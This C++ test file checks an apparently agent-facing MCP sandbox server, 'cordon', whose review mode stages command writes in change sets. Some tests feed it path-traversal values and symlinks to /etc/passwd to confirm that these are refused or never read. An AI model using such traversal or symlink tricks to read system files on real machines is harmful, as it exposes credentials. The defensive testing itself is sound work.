// What a call asks for (its environment, its timeout, its directory) is its own: a warm
// worker started before it takes it, and the next call on another warm worker has none
// of it. The timeout kills the whole tree, checked from outside.
TEST(McpServer, EachCallsArgumentsTakeEffectForThatCallOnly) {
  TempDir ws;
  ASSERT_TRUE(fs::create_directories(ws / "sub"));
  ChangeBetweenCalls calls(ws.path());
  McpServer& s = calls.s;
  const std::string marker = "3" + std::to_string(::getpid() % 10000) + "9";
  s.call(3, {{"command", "echo \"$CORDON_TEST_ONE\"; pwd; sleep " + marker},
             {"env", {{"CORDON_TEST_ONE", "one"}}},
             {"cwd", "sub"},
             {"timeout", 1}});
  auto a = structured(s.response(3));
  EXPECT_TRUE(contains(a.value("stdout", ""), "one\n" + ws / "sub" + "\n")) << a.dump();
  EXPECT_EQ(a["classification"], "timed-out") << a.dump();
  EXPECT_TRUE(eventually([&] { return !host_runs("sleep " + marker); }, std::chrono::seconds(10)));
  s.call(4, {{"command", "echo \"${CORDON_TEST_ONE:-unset}\"; pwd; sleep 1; echo slept"}});
  auto b = structured(s.response(4));
  EXPECT_EQ(b["stdout"], "unset\n" + ws.path() + "\nslept\n") << b.dump();
  EXPECT_EQ(b["exit_code"], 0) << b.dump();
}

namespace {

nlohmann::json review_changes(McpServer& s, int id, const nlohmann::json& arguments) {
  s.send(nlohmann::json{{"jsonrpc", "2.0"},
                        {"id", id},
                        {"method", "tools/call"},
                        {"params", {{"name", "review_changes"}, {"arguments", arguments}}}}
             .dump());
  return s.response(id)["result"];
}

std::set<std::string> changed_paths(const nlohmann::json& summary) {
  std::set<std::string> out;
  for (const auto& c : summary["changes"])
    out.insert(c["path"].get<std::string>() + ":" + c["change"].get<std::string>());
  return out;
}

}  // namespace

// cordon mcp --review (docs/review.md): the calls of one server share one change set, the
// real workspace is unchanged (checked from outside), review_changes lists and diffs it;
// hostile ids and paths are refused, a link in the change set is never followed, a huge
// diff is cut and says so, and no tool applies or discards.
TEST(McpServer, ReviewServerStagesEveryCallInOneChangeSet) {
  TempDir ws, state;
  write_file(ws / "keep.txt", "keep\n");
  McpServer s(ws.path(), {"--review"}, {"/usr/bin/env", "XDG_STATE_HOME=" + state.path()});
  s.send(R"({"jsonrpc":"2.0","id":100,"method":"tools/list"})");
  std::set<std::string> tools;
  auto listed = s.response(100);
  for (const auto& t : listed["result"]["tools"]) tools.insert(t["name"].get<std::string>());
  EXPECT_EQ(tools, (std::set<std::string>{"run_command", "review_changes"}));

  s.call(1, {{"command", "echo first > one.txt; echo changed > keep.txt"}});
  auto a = structured(s.response(1));
  ASSERT_EQ(a["exit_code"], 0) << a.dump();
  const std::string id = a["review"].value("id", "");
  ASSERT_FALSE(id.empty()) << a.dump();
  s.call(2, {{"command", "cat one.txt > two.txt; echo second >> two.txt; cat keep.txt"}});
  auto b = structured(s.response(2));
  ASSERT_EQ(b["exit_code"], 0) << b.dump();
  EXPECT_EQ(b["review"]["id"], id);
  EXPECT_EQ(b["stdout"], "changed\n");  // the second call sees the first one's writes
  // From outside: nothing landed.
  EXPECT_FALSE(exists(ws / "one.txt"));
  EXPECT_FALSE(exists(ws / "two.txt"));
  EXPECT_EQ(read_file(ws / "keep.txt"), "keep\n");

  auto summary = review_changes(s, 3, nlohmann::json::object());
  ASSERT_EQ(summary["isError"], false) << summary.dump();
  EXPECT_EQ(summary["structuredContent"]["id"], id);
  EXPECT_EQ(changed_paths(summary["structuredContent"]),
            (std::set<std::string>{"one.txt:added", "two.txt:added", "keep.txt:modified"}))
      << summary.dump();
  EXPECT_FALSE(summary["structuredContent"].contains("diff"));
  auto diff = review_changes(s, 4, {{"diff", true}, {"paths", {"two.txt", ws.path() + "/keep.txt"}}});
  const std::string text = diff["structuredContent"].value("diff", "");
  EXPECT_NE(text.find("+first\n+second\n"), std::string::npos) << text;
  EXPECT_NE(text.find("-keep\n+changed\n"), std::string::npos) << text;
  EXPECT_EQ(text.find("one.txt"), std::string::npos) << text;
  EXPECT_EQ(diff["structuredContent"]["diff_truncated"], false);

  // A call of its own change set, named by the agent.
  s.call(5, {{"command", "echo mine > mine.txt"}, {"review", "agent-set.1"}});
  auto c = structured(s.response(5));
  EXPECT_EQ(c["review"]["id"], "agent-set.1") << c.dump();
  EXPECT_FALSE(exists(ws / "mine.txt"));
  EXPECT_EQ(changed_paths(review_changes(s, 6, {{"id", "agent-set.1"}})["structuredContent"]),
            std::set<std::string>{"mine.txt:added"});
  EXPECT_EQ(changed_paths(review_changes(s, 7, nlohmann::json::object())["structuredContent"])
                .count("mine.txt:added"),
            0u);

  // Hostile ids and paths: refused, nothing made.
  for (const char* bad : {"../x", "..", ".hidden", "a/b", ""}) {
    s.call(8, {{"command", "echo x > x.txt"}, {"review", bad}});
    auto r = s.response(8)["result"];
    EXPECT_EQ(r["isError"], true) << bad << r.dump();
    EXPECT_EQ(review_changes(s, 9, {{"id", bad}})["isError"], true) << bad;
  }
  EXPECT_FALSE(exists(fs::path(state.path()) / "x"));
  EXPECT_FALSE(exists(fs::path(state.path()) / "cordon" / "x"));
  for (const std::string& bad :
       std::vector<std::string>{"/etc/passwd", "../keep.txt", "a/../../etc/passwd", ws.path() + "/../x"})
    EXPECT_EQ(review_changes(s, 10, {{"diff", true}, {"paths", {bad}}})["isError"], true) << bad;
  EXPECT_EQ(review_changes(s, 11, {{"id", "no-such-set"}})["isError"], true);
  EXPECT_EQ(review_changes(s, 12, {{"apply", true}})["isError"], true);

  // Links in the change set: their targets are shown, never read.
  s.call(13, {{"command", "ln -s /etc/passwd leak; ln -s /etc dir; ln -s ../../../../../etc/passwd rel"}});
  ASSERT_EQ(structured(s.response(13))["exit_code"], 0);
  auto links = review_changes(s, 14, {{"diff", true}, {"paths", {"leak", "dir/passwd", "rel", "dir"}}});
  const std::string link_text = links["structuredContent"].value("diff", "");
  EXPECT_NE(link_text.find("+/etc/passwd"), std::string::npos) << link_text;
  EXPECT_EQ(link_text.find("root:"), std::string::npos) << link_text;

  // A huge diff is cut and says so.
  s.call(15, {{"command",
               "i=0; while [ $i -lt 8000 ]; do echo \"line $i of a long generated file\"; "
               "i=$((i+1)); done > big.txt"}});
  ASSERT_EQ(structured(s.response(15))["exit_code"], 0);
  auto big = review_changes(s, 16, {{"diff", true}});
  EXPECT_EQ(big["structuredContent"]["diff_truncated"], true) << big.dump().substr(0, 400);
  EXPECT_LE(big["structuredContent"]["diff"].get<std::string>().size(), 256u << 10);
  EXPECT_NE(big["content"][0]["text"].get<std::string>().find("cut at"), std::string::npos);
  EXPECT_FALSE(exists(ws / "big.txt"));
  EXPECT_FALSE(exists(ws / "leak"));

  // Only the user discards (and so removes what the overlay left, modes included).
  s.close_stdin();
  EXPECT_EQ(s.wait_exit(std::chrono::seconds(30)), 0);
  for (const std::string& set : std::vector<std::string>{id, "agent-set.1"}) {
    auto o = run_process({cordon_binary(), "review", "discard", set}, ws.path(), "",
                         {"XDG_STATE_HOME=" + state.path()});
    EXPECT_EQ(o.code, 0) << o.out << o.err;
  }
}

TEST(McpServer, ReviewArgumentNeedsAReviewServer) {
  TempDir ws;
  McpServer s(ws.path());
  s.call(1, {{"command", "echo x > x.txt"}, {"review", "some-id"}});
  EXPECT_EQ(s.response(1)["result"]["isError"], true);
  EXPECT_FALSE(exists(ws / "x.txt"));
  s.send(
      R"({"jsonrpc":"2.0","id":2,"method":"tools/call","params":{"name":"review_changes","arguments":{}}})");
  EXPECT_TRUE(s.response(2).contains("error"));
}

// Concurrent calls of a review server: one at a time on its change set (a run locks it),
// the second waits for the first to make it, and both land in it.
TEST(McpServer, ConcurrentReviewCallsShareTheChangeSetOneAtATime) {
  TempDir ws, state;
  McpServer s(ws.path(), {"--review"}, {"/usr/bin/env", "XDG_STATE_HOME=" + state.path()});
  s.call(1, {{"command", "sleep 0.5; echo a > a.txt"}});
  s.call(2, {{"command", "echo b > b.txt"}});
  auto a = structured(s.response(1)), b = structured(s.response(2));
  ASSERT_EQ(a["exit_code"], 0) << a.dump();
  ASSERT_EQ(b["exit_code"], 0) << b.dump();
  const std::string id = a["review"].value("id", "");
  ASSERT_FALSE(id.empty());
  EXPECT_EQ(b["review"]["id"], id);
  EXPECT_EQ(changed_paths(review_changes(s, 3, nlohmann::json::object())["structuredContent"]),
            (std::set<std::string>{"a.txt:added", "b.txt:added"}));
  EXPECT_FALSE(exists(ws / "a.txt"));
  EXPECT_FALSE(exists(ws / "b.txt"));
  s.close_stdin();
  EXPECT_EQ(s.wait_exit(std::chrono::seconds(30)), 0);
  auto o = run_process({cordon_binary(), "review", "discard", id}, ws.path(), "",
                       {"XDG_STATE_HOME=" + state.path()});
  EXPECT_EQ(o.code, 0) << o.out << o.err;
}

// A change set made without the server's --deny-read (by the user's own `cordon run
// --review`): review_changes lists the secret's path but never puts its content in a diff.
TEST(McpServer, ReviewChangesWithholdsTheContentOfDeniedPaths) {
  TempDir ws, state;
  write_file(ws / "secret.txt", "old-secret-value\n");
  const std::vector<std::string> env = {"XDG_STATE_HOME=" + state.path()};
  auto made =
      run_process({cordon_binary(), "run", "--no-config", "--workspace", ws.path(), "--review=user-set", "--",
                   "sh", "-c", "echo new-secret-value > secret.txt; echo plain > plain.txt"},
                  ws.path(), "", env);
  ASSERT_EQ(made.code, 0) << made.out << made.err;
  ASSERT_EQ(read_file(ws / "secret.txt"), "old-secret-value\n");
  {
    McpServer s(ws.path(), {"--review", "--deny-read", ws / "secret.txt"},
                {"/usr/bin/env", "XDG_STATE_HOME=" + state.path()});
    auto r = review_changes(s, 1, {{"id", "user-set"}, {"diff", true}});
    ASSERT_EQ(r["isError"], false) << r.dump();
    EXPECT_EQ(changed_paths(r["structuredContent"]),
              (std::set<std::string>{"secret.txt:modified", "plain.txt:added"}));
    EXPECT_EQ(r["structuredContent"]["withheld"], nlohmann::json::array({"secret.txt"})) << r.dump();
    EXPECT_EQ(r.dump().find("secret-value"), std::string::npos) << r.dump();
    EXPECT_NE(r["structuredContent"]["diff"].get<std::string>().find("+plain"), std::string::npos);
  }
  auto o = run_process({cordon_binary(), "review", "discard", "user-set"}, ws.path(), "", env);
  EXPECT_EQ(o.code, 0) << o.out << o.err;
}

// review_changes reads only the change sets of the server's own workspace, and a call
// cannot stack on another workspace's change set.
TEST(McpServer, ReviewChangesRefusesAnotherWorkspacesChangeSet) {
  TempDir ws, other, state;
  const std::vector<std::string> env = {"XDG_STATE_HOME=" + state.path()};
  auto made = run_process({cordon_binary(), "run", "--no-config", "--workspace", other.path(),
                           "--review=elsewhere", "--", "sh", "-c", "echo private > p.txt"},
                          other.path(), "", env);
  ASSERT_EQ(made.code, 0) << made.out << made.err;
  {
    McpServer s(ws.path(), {"--review"}, {"/usr/bin/env", "XDG_STATE_HOME=" + state.path()});
    auto r = review_changes(s, 1, {{"id", "elsewhere"}, {"diff", true}});
    EXPECT_EQ(r["isError"], true) << r.dump();
    EXPECT_EQ(r.dump().find("private"), std::string::npos) << r.dump();
    s.call(2, {{"command", "echo mine > p.txt"}, {"review", "elsewhere"}});
    auto c = s.response(2)["result"];
    EXPECT_EQ(c["isError"], true) << c.dump();
  }
  EXPECT_FALSE(exists(ws / "p.txt"));
  auto o = run_process({cordon_binary(), "review", "discard", "elsewhere"}, other.path(), "", env);
  EXPECT_EQ(o.code, 0) << o.out << o.err;
}
